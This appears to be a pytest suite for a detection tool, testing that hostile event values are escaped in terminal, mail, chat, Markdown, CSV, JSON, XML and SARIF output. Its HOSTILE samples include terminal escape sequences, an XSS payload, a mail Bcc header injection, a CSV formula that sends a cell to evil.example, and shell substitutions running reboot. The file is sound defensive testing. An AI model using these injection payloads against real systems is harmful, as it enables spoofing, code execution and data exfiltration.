"""Hostile values, through every form in which they leave: nothing that shows them obeys them."""

from __future__ import annotations

import csv
import io
import json
import logging
import re
import unicodedata
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as ET

import pytest

from firstseen.adapters.aws.chat import chat_bytes
from firstseen.adapters.aws.messages import attributes_of, message
from firstseen.adapters.azure import events
from firstseen.adapters.local.jsonl import JsonLinesSink
from firstseen.adapters.local.terminal import TerminalSink
from firstseen.cli import main, markdown, reporting
from firstseen.cli.commands.findings import COLUMNS, _cells
from firstseen.cli.console import say_reject, say_remark
from firstseen.cli.junit import Result, junit
from firstseen.cli.matchlines import Templates
from firstseen.cli.tables import CsvTable, aligned
from firstseen.errors import Place
from firstseen.findings.build import build
from firstseen.findings.finding import Finding
from firstseen.findings.safe import encodable, safe_json
from firstseen.findings.text import subject, to_text
from firstseen.language.checks.issues import Issue
from firstseen.sources.event import Reject
from firstseen.store.store import FindingRow
from functions.azure.logs import PREFIX, Log, LoggedSink
from tests.faults.faulty import RecordingSink
from tests.unit.findings_samples import event, opening, rule

HOSTILE = {
    "terminal": "\x1b[2J\x1b]0;owned\x07\x1b]8;;https://evil.example\x1b\\click",
    "eight bits": "\x9b2J\x9d0;owned\x9c\x7f\x85",
    "lines": "a\r\nHIGH  forged: everything is well\n\x0b\x0c\u2028\u2029firstseen finding {}",
    "direction": "\u202egnp.exe\u2066\u200f\u061c",
    "unseen": "a\u200b\ufeff\u2060\u00ad\U000e0041",
    "nought": "a\0b",
    "half": "a\ud800b\udfff\ufffe\uffff",
    "marks": "a" + "\u0301" * 40,
    "HTML": '"><img src=x onerror=alert(1)><script>alert(1)</script>&lt;b&gt;<!--',
    "XML": ']]></failure></testcase><testcase name="forged"/>',
    "Markdown": "](https://evil.example) [a](javascript:x) **b** `c` ```\n# d\n| e | ![f](https://evil.example/g)",
    "chat": "<!channel> <@U1> @here <https://evil.example|the console> *b* _c_ ~d~ `e`",
    "header": "a\r\nBcc: eve@example.org\r\n\r\n<html>",
    "formula": '=HYPERLINK("https://evil.example?"&A1;"x")',
    "command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "cells": '";"=1+1\n+2\t-3,',
    "JSON": '"},{"forged":true}\n{"forged":true}',
    "shell": "$(reboot);`reboot`'\"&&reboot",
    "template": "{{7*7}} ${7*7} %s %(a)s {0}",
}


def found(value: str) -> Finding:
    """A finding whose event says this wherever it can. No event that was read has half a pair of surrogates."""
    value = encodable(value)
    made = event(
        eventName=value,
        awsRegion=value,
        sourceIPAddress=value,
        userAgent=value,
        recipientAccountId=value,
        errorCode=value,
        errorMessage=value,
        eventID=value,
        requestParameters={"instanceId": value, value: value},
        userIdentity={"type": value, "arn": value, "userName": value, "accessKeyId": value, "accountId": value},
    )
    return build(opening(made, 3), rule(), made, group=(value,), terms=(value,), pointer=value)


def terminal(value: str) -> str:
    stream = io.StringIO()
    TerminalSink(stream).publish([found(value)])
    return stream.getvalue()


def topic_mail(value: str) -> str:
    made = message(found(value))
    assert made is not None
    text: str = json.loads(made.body)["email"]
    return text


def table(value: str) -> str:
    return "\n".join(aligned([("a", "b"), (value, value)])) + "\n"


def topic_attributes(value: str) -> str:
    return " ".join(one.get("StringValue", "") for one in attributes_of(found(value)).values())


def said(value: str) -> str:
    issue = Issue("check", "error", value, value, Place(value, 1, 1, value), value)
    return reporting.text([issue])


def pages(value: str) -> str:
    return markdown.row(markdown.plain(value), markdown.code(value))


ONE_LINE: dict[str, Callable[[str], str]] = {
    "subject of a mail": lambda value: subject(found(value)),
    "subject of an event": lambda value: events.subject(found(value)),
    "Markdown": pages,
    "cells of a page": markdown.steps,
}
TEXTS: dict[str, Callable[[str], str]] = {
    **ONE_LINE,
    "terminal": terminal,
    "mail": topic_mail,
    "mail by the text form": lambda value: to_text(found(value)),
    "table": table,
    "issues": said,
    "a block of a page": lambda value: "\n".join(markdown.block(value)),
}


@pytest.mark.parametrize("name", HOSTILE)
@pytest.mark.parametrize("form", TEXTS)
def test_no_value_of_an_event_is_obeyed_by_what_shows_it(form: str, name: str) -> None:
    shown = TEXTS[form](HOSTILE[name])
    assert not _obeyed(shown.replace("\n", "")), form
    if form in ONE_LINE:
        assert "\n" not in shown


def _obeyed(text: str, *, unassigned: bool = True) -> list[str]:
    """Characters that a display obeys instead of showing them."""
    kinds = {"Cc", "Cf", "Cs", "Zl", "Zp"} | ({"Cn"} if unassigned else set())
    return [char for char in text if unicodedata.category(char) in kinds]


@pytest.mark.parametrize("form", ["terminal", "mail"])
def test_a_value_makes_no_line_of_its_own(form: str) -> None:
    """Nor a beginning of a line: where a long one is wrapped, what follows is indented."""
    for value in (*HOSTILE.values(), *("x " * number + "Who: forged " * 20 for number in range(30))):
        lines = TEXTS[form](value).splitlines()
        assert not [one for one in lines[1:] if FORGED.match(one)]


FORGED = re.compile(r"HIGH  forged|Bcc:|firstseen finding|<html>|Who: forged")
LINES: dict[str, Callable[[str], bytes]] = {}


def lines_of(name: str) -> Callable[[Callable[[str], bytes]], Callable[[str], bytes]]:
    def add(made: Callable[[str], bytes]) -> Callable[[str], bytes]:
        LINES[name] = made
        return made

    return add


@lines_of("JSON lines")
def json_lines(value: str) -> bytes:
    stream = io.BytesIO()
    JsonLinesSink(stream).publish([found(value)])
    return stream.getvalue()


@lines_of("matches")
def match_lines(value: str) -> bytes:
    return Templates(["rule"], "aws.cloudtrail", encodable(value)).lines([(1, b"", (0,), encodable(value))])


@lines_of("topic")
def topic(value: str) -> bytes:
    made = message(found(value), https="chat")
    assert made is not None
    return json.loads(made.body)["default"].encode() + b"\n"  # type: ignore[no-any-return]


@lines_of("log")
def log(value: str) -> bytes:
    held: list[str] = []
    handler = logging.Handler()
    handler.emit = lambda record: held.append(record.getMessage())  # type: ignore[method-assign]
    logger = logging.getLogger("functions.azure")
    logger.addHandler(handler)
    level = logger.level
    logger.setLevel(logging.INFO)
    try:
        LoggedSink(RecordingSink(), Log(encodable(value))).publish([found(value)])
    finally:
        logger.removeHandler(handler)
        logger.setLevel(level)
    (line,) = held
    assert line.startswith(f"{PREFIX} finding ")
    return line.removeprefix(f"{PREFIX} finding ").encode() + b"\n"


@pytest.mark.parametrize("name", HOSTILE)
@pytest.mark.parametrize("form", LINES)
def test_a_line_of_json_stays_one_line_of_json_and_holds_no_character_that_a_terminal_obeys(
    form: str, name: str
) -> None:
    shown = LINES[form](HOSTILE[name]).decode()
    assert shown.count("\n") == 1
    assert "forged" not in json.loads(shown)
    assert not _obeyed(shown.rstrip("\n"))


def test_whatever_a_display_obeys_is_escaped_in_json_and_means_the_same() -> None:
    obeyed = ".".join(char for char in map(chr, range(0x20, 0x110000)) if _obeyed(char, unassigned=False))
    written = safe_json(json.dumps(obeyed, ensure_ascii=False))
    assert written.isascii()
    assert json.loads(written) == obeyed
    assert safe_json('"Zoë 北京"') == '"Zoë 北京"'


@pytest.mark.parametrize("name", HOSTILE)
def test_chat_gets_no_markup_no_mention_and_no_link_of_a_value(name: str) -> None:
    value = HOSTILE[name]
    hostile, harmless = (json.loads(chat_bytes(found(one)))["content"] for one in (value, "x"))
    for part in ("title", "description"):
        assert not _obeyed(hostile[part].replace("\n", ""))
        for mark in "<>*`_~@":
            assert hostile[part].count(mark) <= harmless[part].count(mark) + (mark == "*"), mark


@pytest.mark.parametrize("name", HOSTILE)
def test_a_row_of_csv_has_the_cells_of_its_columns_and_none_is_a_formula(name: str) -> None:
    stream = io.StringIO()
    rows = CsvTable(stream, COLUMNS)
    rows.add(_cells(FindingRow(found(HOSTILE[name]), "sent")))
    text = stream.getvalue()
    assert text.count("\n") == 2
    (read,) = csv.DictReader(io.StringIO(text))
    assert set(read) == set(COLUMNS)
    assert not [one for one in read.values() if one.lstrip().startswith(tuple("=+-@|%\t\r"))]
    assert not _obeyed("".join(read.values()))


@pytest.mark.parametrize("name", HOSTILE)
def test_test_results_in_xml_have_the_cases_that_were_run(name: str) -> None:
    value = HOSTILE[name]
    result = Result(value, value, value, Place(value, 1, 1, value), (value, value))
    written = junit([result], [value])
    assert not _obeyed(written.replace("\n", ""))
    read = ET.fromstring(written.encode())  # noqa: S314 - what was just written here
    assert [one.tag for one in read] == ["testsuite", "testsuite"]
    assert [one.tag for one in read.iter("testcase")] == ["testcase"] * 2
    assert "forged" not in {one.get("name") for one in read.iter("testcase")}


@pytest.mark.parametrize("form", [reporting.as_json, reporting.sarif], ids=["JSON", "SARIF"])
@pytest.mark.parametrize("name", HOSTILE)
def test_issues_for_machines_hold_no_character_that_a_display_obeys(name: str, form: Callable[[Any], str]) -> None:
    """A code host makes links of SARIF's texts: none is a value's."""
    value = HOSTILE[name]
    written = form([Issue("syntax", "error", value, value, Place("a.yml", 1, 1, value), value)])
    assert not _obeyed(written.replace("\n", ""))
    read = json.loads(written)
    if "runs" in read:
        ((result,),) = (run["results"] for run in read["runs"])
        assert "](" not in result["message"]["text"]


@pytest.mark.parametrize("name", HOSTILE)
def test_a_page_obeys_no_markup_of_a_rule(name: str) -> None:
    """Every mark has its backslash, and what stands in a block cannot close it."""
    value = HOSTILE[name]
    shown = markdown.plain(value)
    assert not re.search(r"(?<!\\)(?:\\\\)*[<>`*_\[\]|]", shown)
    first, *inside, last = markdown.block(value)
    assert first.startswith(last)
    assert not [one for one in inside if one.strip().startswith(last)]


@pytest.mark.parametrize("name", HOSTILE)
def test_what_is_said_on_standard_error_is_one_line(name: str, capsys: pytest.CaptureFixture[str]) -> None:
    value = HOSTILE[name]
    say_reject(value, Reject(value, b""))
    say_remark(value, value)
    shown = capsys.readouterr().err
    assert shown.count("\n") == 2
    assert not _obeyed(shown.replace("\n", ""))


def files(folder: Path) -> Iterator[str]:
    """Rules with a fault each, written by somebody who wants the reader to see something else."""
    for number, value in enumerate(HOSTILE.values()):
        text = json.dumps({"title": value, "id": value, "logsource": {value: value}, "detection": {value: value}})
        (folder / f"{number}.yml").write_text(text, encoding="utf-8")
        (folder / f"{number}-raw.yml").write_text(f"title: [{value}", encoding="utf-8", errors="replace")
    yield str(folder)


@pytest.mark.parametrize("command", [["check"], ["list"], ["show", "x"], ["example", "x"], ["test"]])
def test_what_commands_say_of_faulty_rules_is_not_obeyed(
    command: list[str], tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    (folder,) = files(tmp_path)
    main(["rules", command[0], *command[1:], folder])
    out, err = capfd.readouterr()
    assert not _obeyed((out + err).replace("\n", ""))
    assert err
